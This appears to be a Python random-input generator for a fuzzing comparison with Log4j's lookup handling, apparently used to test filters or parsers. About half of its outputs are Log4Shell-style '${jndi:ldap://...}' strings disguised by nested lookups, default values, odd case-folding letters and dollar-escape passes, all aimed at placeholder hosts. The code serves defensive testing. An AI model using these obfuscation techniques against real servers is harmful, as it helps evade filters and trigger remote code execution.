# SPDX-License-Identifier: GPL-2.0-or-later
"""Random texts for the comparison with Log4j: half of them lookups in disguise, half of them the language's own odds
and ends in any order. A pure function of the random generator that is handed in."""

# What becomes ASCII, or longer, or different, by Java's case mappings; and what must stay as it is.
ODD_LETTERS = ("\u0131\u017f\u212a\u0130\u00df\ufb00\ufb01\ufb02\ufb03\ufb04\ufb05\ufb06\u03a3\u0149\u01f0\u1e96\u1e9e"
               "\u0390\u03b0\u00b5\u00ff\u0178\u01c5\u1f80\u1f88\u212b\u2126\u00e9\u0130\u0345\u00ad\u200d\uff4a\u24d9"
               "\U00010428\U00010400\U0001f600\U0001d4a5\U0001e922")
# What is there in every JVM, absent in every JVM, known to the victim alone, or thrown.
PREFIXES = ["lower", "upper", "date", "env", "sys", "java", "ctx", "main", "map", "marker", "bundle", "event", "sd",
            "log4j", "jvmrunargs", "web", "docker", "k8s", "spring", "base64", "jndi", "hostName", "contextName", "x",
            "", ":", "::", "a:b", "lowe", "lowerr", "jnd", "jndi ", "  lower"]
KEYS = ["", "x", "NOPE", "user.home", "java.version", "PATH", "file.separator", "path.separator", "line.separator",
        "version", "os", "hw", "locale", "vm", "runtime", "nope", "0", "Message", "Logger", "Level", "Marker",
        "ThreadName", "StartTime", "hostName", "contextName", "configLocation", "a:b", "-", "\\", "$", "{", "'", "j"]
DATES = ["'j'", "''", "'", "j", "y", "yyyy-MM-dd", "'jndi'", "'a''b'", ":", "/", "-", ".", "'ldap:'", "G", "z", "zzzz",
         "Z", "X", "XX", "XXXX", "u", "'x", "a", "EEE", "0", "1'2'3", "\u00e9", " ", "G G", "{", "$", "H:'m'"]
TARGETS = ["ldap://h/a", "ldap://192.0.2.1:1389/a", "rmi://h/o", "dns:x", "x", "", ":", "ldap://h/${env:A}", "java:x",
           "ldap://${hostName}.h/a", "ldap://h/${java:os}", "ldap://u@[2001:db8::1]:9/x y", "LDAP://H/A", "-", "a:-b",
           "ldap:\\-//h", "a${x}b", "ldap://h/\u0131\u00e9", "${date:'l'}dap://h", "iiop://h:900/a"]
TOKENS = ["${", "${", "${", "}", "}", "}", "$", "$$", "$${", "{", ":", ":-", ":\\-", "::-", "-", "\\", "jndi:", "jndi",
          "jn", "di:", "lower:", "upper:", "date:", "env:", "sys:", "java:", "x", "a", "j", "'", "'j'", " ", "\n",
          "ldap://h/a", "${x}", "${x:-y}", "${::-", "${jndi:", "${lower:", "}${", "$}", "{x}", "\u0131", "\u017f",
          "\U0001f600", "ctx:", "hostName", "${sys:file.separator}", "${java:version}", "${java:nope}", "0"]


class Texts:
    """Makes texts, one after the other, from one random.Random."""

    def __init__(self, rnd):
        self.rnd = rnd
        self.chance = lambda p: rnd.random() < p
        self.pick = rnd.choice

    def case(self, word):
        """Any case of a word; now and then a letter that only folds to the right one."""
        odd = {"s": "\u017f", "k": "\u212a", "i": "\u0131"}
        return "".join(odd.get(c, c) if self.chance(0.01) else c.upper() if self.chance(0.3) else c for c in word)

    def word(self, longest=6):
        letters = "abcdefghijklmnopqrstuvwxyzABCXYZ0123456789.:-_/ "
        return "".join(self.pick(letters) for _ in range(self.rnd.randrange(longest + 1)))

    def odd(self):
        return "".join(self.pick(ODD_LETTERS) for _ in range(self.rnd.randint(1, 3)))

    def prefix(self):
        word = self.pick(PREFIXES)
        return self.case(word) if self.chance(0.15) else word

    def name(self, depth):
        """The inside of an expression, before any default."""
        kind = self.rnd.random()
        if kind < 0.5:
            return self.prefix() + ":" + (self.text(depth - 1) if self.chance(0.3) else self.pick(KEYS))
        if kind < 0.6:
            return "date:" + "".join(self.pick(DATES) for _ in range(self.rnd.randint(1, 3)))
        if kind < 0.7:
            return self.word()
        if kind < 0.8:
            return self.case("lower" if self.chance(0.5) else "upper") + ":" + self.odd() + self.word(3)
        return "jndi:" + self.pick(TARGETS)

    def expression(self, depth):
        text = self.name(depth)
        if self.chance(0.3):
            text += self.pick([":-", ":-", ":-", "::-", ":\\-", ":\\-x:-"]) + self.text(depth - 1)
        return "${" + text + ("" if self.chance(0.03) else "}")

    def text(self, depth):
        """Any mixture of plain text, loose signs and expressions."""
        parts = []
        for _ in range(self.rnd.randint(0, 3)):
            kind = self.rnd.random()
            if kind < 0.45 and depth > 0:
                parts.append(self.expression(depth))
            elif kind < 0.6:
                parts.append(self.pick(TOKENS))
            elif kind < 0.65:
                parts.append(self.odd())
            else:
                parts.append(self.word())
        return "".join(parts)

    def as_value(self, text, depth):
        """An expression that comes out as the text, one way or another."""
        inner = self.disguise(text, depth - 1) if depth > 1 and self.chance(0.4) else text
        ways = [
            lambda: "${::-" + inner + "}",
            lambda: "${:-" + inner + "}",
            lambda: "${" + self.word() + ":-" + inner + "}",
            lambda: "${" + self.pick(PREFIXES[3:21]) + ":" + self.word(4) + ":-" + inner + "}",
            lambda: "${env:" + self.word(4) + ":-" + inner + "}",
            lambda: "${sys:" + self.word(4) + "::-" + inner + "}",
            lambda: "${date:'" + text + "'}",
            lambda: "${" + self.case("lower") + ":" + self.disguise(text.upper(), depth - 1) + "}",
            lambda: "${lower:" + text + "}",
            lambda: "${upper:" + text + "}",
            lambda: "${lower:\\" + "-" + text + ":-" + self.word(3) + "}",
            lambda: "${lower:${upper:" + text.replace("s", "\u017f").replace("i", "\u0131") + "}}",
        ]
        return self.pick(ways)()

    def disguise(self, text, depth):
        """The same text to Log4j, another one to a reader: letters and stretches give way to expressions."""
        if depth <= 0:
            return text
        parts, at = [], 0
        rate = self.pick([0.1, 0.3, 0.8])
        while at < len(text):
            n = 1 if self.chance(0.7) else self.rnd.randint(1, 6)
            piece = text[at:at + n]
            if "$" not in piece and "}" not in piece and self.chance(rate):
                parts.append(self.as_value(piece, depth))
            else:
                parts.append(piece)
            if self.chance(0.02):
                parts.append(self.pick(["${::-}", "${lower:}", "${x:-}", "${date:''}", "${env:NOPE:-}", "${upper:}"]))
            at += n
        return "".join(parts)

    def lookup(self):
        depth = self.pick([0, 1, 1, 2, 3])
        target = self.pick(TARGETS)
        if self.chance(0.3):
            target += self.word()
        if self.chance(0.2):
            target += self.text(2)
        jndi = self.case("jndi") if self.chance(0.2) else "jndi"
        inside = self.disguise(jndi + ":", depth) + self.disguise(target, depth)
        if self.chance(0.1):
            inside += self.pick([":-", ":\\-"]) + self.text(2)
        return "${" + inside + "}"

    def two_passes(self):
        """What only the message loop's later passes reach, and what they just miss."""
        lookup = self.lookup()
        dollars = "$" * self.rnd.randint(1, 4)
        more = "".join(self.pick(["${x}", "${y:-z}", " ${", "${::-}", "}", "${env:A}", "$${x}", " "])
                       for _ in range(self.rnd.randrange(5)))
        ways = [
            lambda: dollars + lookup + more,
            lambda: more + dollars + lookup,
            lambda: "${::-" + self.word() + dollars + "}" + lookup[1:] + more,
            lambda: "${x:-" + self.word(12) + "}${lower:$}" + lookup[1:],
            lambda: "${lower:" + self.word(9) + "$}" + lookup[1:] + more,
            lambda: "${::-" + dollars + lookup + "}" + more,
            lambda: dollars + "${x:-{}" + lookup[2:] + more,
            lambda: "${a:-${b:-" + dollars + "}}" + lookup[1:] + more,
            lambda: self.odd() + "${::-" + self.odd() + "}" + dollars + lookup + more,
        ]
        return self.pick(ways)()

    def deep(self):
        n = self.rnd.randint(5, 30)
        open_with = self.pick(["${lower:", "${a:-", "${::-", "${upper:", "${x", "${env:"])
        return open_with * n + self.lookup() + "}" * (n - self.rnd.randrange(2)) + self.text(1)

    def long(self):
        filler = self.pick(["x", "${x}", "${::-y}", "$", "{", "\U0001f600", "${lower:A}", "}"])
        return filler * self.rnd.randint(50, 400) + self.lookup() + self.text(2)

    def cycle(self):
        name = self.pick(["x", "a:b", "::", "env:A", ""])
        inner = "${" + name + ":-" + self.pick(["$${" + name + ":-y}", "$${" + name + "}", "$" + self.text(1)]) + "}"
        return self.pick(["", self.lookup()]) + inner + self.pick(["", self.lookup()])

    def harm(self, text):
        """A few characters lost, doubled, moved or added."""
        for _ in range(self.rnd.randint(1, 3)):
            at = self.rnd.randrange(len(text) + 1)
            kind = self.rnd.random()
            if kind < 0.4:
                text = text[:at] + self.pick(TOKENS) + text[at:]
            elif kind < 0.7:
                text = text[:at] + text[at + self.rnd.randint(1, 3):]
            else:
                to = self.rnd.randrange(len(text) + 1)
                text = text[:at] + text[min(at, to):max(at, to)][:40] + text[at:]
        return text

    def one(self):
        """The next text, as the bytes that a server receives."""
        kind = self.rnd.random()
        if kind < 0.45:
            text = self.lookup()
        elif kind < 0.6:
            text = self.two_passes()
        elif kind < 0.75:
            text = self.text(4) + self.text(3)
        elif kind < 0.94:
            text = "".join(self.pick(TOKENS) for _ in range(self.rnd.randint(2, 25)))
        elif kind < 0.96:
            text = self.cycle()
        elif kind < 0.98:
            text = self.deep()
        else:
            text = self.long()
        if self.chance(0.3):
            text = self.text(2) + text
        if self.chance(0.2):
            text = self.harm(text)
        raw = text.encode()
        if self.chance(0.01): # not UTF-8: a byte that is none is read as Latin-1
            at = self.rnd.randrange(len(raw) + 1)
            raw = raw[:at] + bytes([self.rnd.randrange(128, 256)]) + raw[at:]
        return raw
